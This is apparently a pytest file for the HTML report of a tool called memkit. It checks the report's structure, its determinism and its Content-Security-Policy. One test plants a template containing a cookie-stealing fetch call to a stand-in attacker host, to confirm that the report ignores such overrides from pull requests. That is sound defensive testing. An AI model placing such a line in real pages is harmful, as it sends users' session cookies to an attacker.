"""The page: its structure parsed as HTML, its determinism, and that it loads nothing."""

from __future__ import annotations

import base64
import datetime as dt
import hashlib
import re
from pathlib import Path

import pytest
from conftest import Invoke, copy_into, git

from memkit.report import build_page
from memkit.store import Store
from tests.report.htmltree import El, parse
from tests.report.sample import TODAY, built_once

DAY = dt.date.fromisoformat(TODAY)


@pytest.fixture(scope="module")
def sample(tmp_path_factory: pytest.TempPathFactory, empty_git_dir: Path) -> Path:
    return built_once(tmp_path_factory, empty_git_dir)


@pytest.fixture
def built(sample: Path, repo: Path, run: Invoke, monkeypatch: pytest.MonkeyPatch) -> Store:
    """A copy of the sample in `repo`, the date pinned as `build` pins it."""
    monkeypatch.setenv("MEMKIT_TODAY", TODAY)
    copy_into(sample, repo)
    return Store(repo)


@pytest.fixture
def page(built: Store) -> El:
    return parse(build_page(built, today=DAY))


def test_sections_and_counts(page: El) -> None:
    assert page.find("title").text == "memkit report: repo"
    for section in ("overview", "queue", "codemap", "memories", "recent"):
        assert page.find("section", id=section)
    fresh = page.find("table", data_attr="freshness")
    rows = {r.find("th").text: r.find("td", class_="n").text for r in fresh.find_all("tr")[1:]}
    assert rows == {
        "fresh": "2",
        "stale": "1",
        "expired": "1",
        "review-due": "1",
        "unverified": "1",
        "draft": "1",
    }
    assert page.find_all("section", id="pull-request") == []  # only with --base


def test_each_memory_with_its_verdict_links_history_and_reach(page: El) -> None:
    memories = page.by_id("memory-list").find_all("details")
    assert [m.attrs["id"] for m in memories] == sorted(m.attrs["id"] for m in memories)
    login = page.by_id("m-login-checks-the-password")
    assert login.attrs["data-freshness"] == "stale"
    assert login.attrs["data-tags"] == "auth"
    assert login.find("strong").text == "must"  # the text is rendered markdown
    [link] = login.find("ul", class_="links").find_all("li")
    assert link.find("span", class_="badge").text == "body"
    diff = login.find("pre", class_="diff").text
    assert "+    return user.verify(password, strict=True)" in diff
    history = login.fact("history")
    assert "Ada Lovelace" in history and "remember auth and db" in history
    assert login.fact("reaches") == "agents full, claude full, copilot full"
    compiled = page.find("table", data_attr="compiled").find("tbody").find_all("tr")
    rows = {r.find("th").text: [td.text for td in r.find_all("td")] for r in compiled}
    assert rows["AGENTS.md"] == ["agents", "5", "0", "0"]  # five active, unexpired memories
    draft = page.by_id("m-agent-noticed-retries")
    assert draft.attrs["data-freshness"] == "draft"
    assert draft.fact("status") == "draft"


def test_queue_oldest_first_with_reasons(page: El) -> None:
    rows = page.by_id("queue").find("tbody").find_all("tr")
    reasons = {r.attrs["data-id"]: r.find_all("td")[3].text for r in rows}
    assert reasons["login-checks-the-password"].startswith("src/app/auth.py::login (body since ")
    assert reasons["old-deploy-note"] == "expired 2026-01-01"
    assert reasons["check-the-ops-runbook"] == "review after 2026-02-01"
    assert reasons["agent-noticed-retries"] == "new draft"
    assert "memkit verify never-verified" in reasons["never-verified"]


def test_codemap_colours_by_worst(page: El) -> None:
    tree = page.by_id("codemap")
    auth = next(li for li in tree.find_all("li", class_="leaf") if "auth.py" in li.text)
    assert "stale" in auth.find("span", class_="dot").attrs["class"]
    chips = {a.text: a.attrs["href"] for a in auth.find_all("a", class_="chip")}
    assert chips == {
        "login-checks-the-password": "#m-login-checks-the-password",
        "sessions-refresh-their-token": "#m-sessions-refresh-their-token",
    }


def test_same_store_and_date_give_the_same_bytes(built: Store) -> None:
    assert build_page(built, today=DAY) == build_page(built, today=DAY)


def test_self_contained_and_only_its_own_script_runs(page: El, built: Store) -> None:
    text = build_page(built, today=DAY)
    [script] = page.find_all("script")
    [style] = page.find_all("style")
    assert "src" not in script.attrs
    assert page.find_all("link") == [] and page.find_all("img") == []
    csp = page.find("meta", http_equiv="Content-Security-Policy").attrs["content"]

    def digest(s: str) -> str:
        return base64.b64encode(hashlib.sha256(s.encode()).digest()).decode()

    assert f"script-src 'sha256-{digest(script.text)}'" in csp
    assert f"style-src 'sha256-{digest(style.text)}'" in csp
    assert "default-src 'none'" in csp
    assert not re.search(r"(?:src|href)=\"(?:https?:)?//", text)


def test_link_base_links_files(built: Store) -> None:
    page = parse(build_page(built, today=DAY, link_base="https://example.com/r/blob/abc/"))
    login = page.by_id("m-login-checks-the-password")
    assert login.find("ul", class_="links").find("a").attrs["href"] == (
        "https://example.com/r/blob/abc/src/app/auth.py"
    )


def test_base_shows_what_a_change_does(built: Store, repo: Path) -> None:
    base = git(repo, "rev-parse", "HEAD~1").strip()
    page = parse(build_page(built, today=DAY, base=base))
    section = page.by_id("pull-request")
    kinds = {
        li.find("code").text: li.attrs["data-kind"]
        for li in section.find_all("li", class_="change")
    }
    assert kinds == {"agent-noticed-retries": "added"}
    assert "login-checks-the-password" in section.text  # its code changed since base


@pytest.mark.parametrize("name", ["report.css", "report.js", "report.html.j2"])
def test_a_pull_request_cannot_override_the_report(built: Store, name: str) -> None:
    """The report reviews pull requests: a `.memory/templates/report.js` (or .css, or the
    page itself) from one must not run script in the reviewer's browser."""
    folder = built.root / ".memory" / "templates"
    folder.mkdir()
    (folder / name).write_text("fetch('https://evil.example/?'+document.cookie)\n")
    text = build_page(built, today=DAY)
    assert "evil.example" not in text
    page = parse(text)
    script, style = page.find("script").text, page.find("style").text
    csp = page.find("meta", http_equiv="Content-Security-Policy").attrs["content"]
    for kind, inline in (("script", script), ("style", style)):
        digest = base64.b64encode(hashlib.sha256(inline.encode()).digest()).decode()
        assert f"{kind}-src 'sha256-{digest}'" in csp
